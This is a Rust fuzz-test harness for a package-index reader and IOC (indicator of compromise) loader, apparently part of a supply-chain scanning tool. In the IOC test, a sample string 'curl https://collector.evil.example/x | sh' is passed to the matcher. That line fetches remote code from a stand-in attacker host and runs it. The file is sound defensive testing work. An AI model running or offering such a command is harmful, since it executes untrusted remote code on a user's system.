//! The census index readers and the IOC loader.

use super::split_selector;
use firebreak_census::index::{detect, read_index, IndexKind, ReadOptions};
use firebreak_census::ioc::IocSet;
use std::path::PathBuf;
use std::sync::OnceLock;

fn dir() -> &'static PathBuf {
    static D: OnceLock<PathBuf> = OnceLock::new();
    D.get_or_init(|| super::scratch_dir("census"))
}

/// The first byte picks the reader (conda, PyPI, JSON Lines, or detection).
pub fn index(data: &[u8]) {
    let (sel, body) = split_selector(data);
    let (file, kind) = match sel % 4 {
        0 => ("repodata.json", Some(IndexKind::Conda)),
        1 => ("json", Some(IndexKind::Pypi)),
        2 => ("index.jsonl", Some(IndexKind::Jsonl)),
        _ => ("index.json", None),
    };
    let p = dir().join(file);
    std::fs::write(&p, body).expect("write index");
    let shown = p.display().to_string();
    if kind.is_none() {
        let _ = detect(&p);
    }
    let opts = ReadOptions::default();
    match read_index(&p, kind, &opts) {
        Ok(loaded) => {
            for pr in &loaded.problems {
                assert_eq!(pr.file, shown, "problems name the index file");
                assert!(!pr.message.is_empty());
            }
            for e in &loaded.entries {
                assert_eq!(e.index, shown, "entries name their index");
                assert!(e.source.starts_with(&shown), "entries say where they were read");
            }
        }
        Err(e) => assert!(e.to_string().contains(&shown), "errors name the index: {e}"),
    }
}

/// The first byte picks TOML or YAML.
pub fn ioc(data: &[u8]) {
    let (sel, body) = split_selector(data);
    let name = if sel % 2 == 0 { "ioc.toml" } else { "ioc.yaml" };
    let p = dir().join(name);
    std::fs::write(&p, body).expect("write ioc");
    let shown = p.display().to_string();
    match IocSet::load(&p) {
        Ok(set) => {
            let _ = set.match_name("ci_exfil.sh", "pkg.conda!info/recipe/ci_exfil.sh");
            let _ = set.match_name("", "");
            let _ = set.match_strings(b"curl https://collector.evil.example/x | sh");
            let _ = set.member_hash_match(&"0".repeat(64));
            let _ = set.artifact_match("ABC");
            let _ = (set.len(), set.wants_contents(), set.wants_member_hashes());
        }
        Err(e) => assert!(e.to_string().contains(&shown), "errors name the IOC file: {e}"),
    }
}
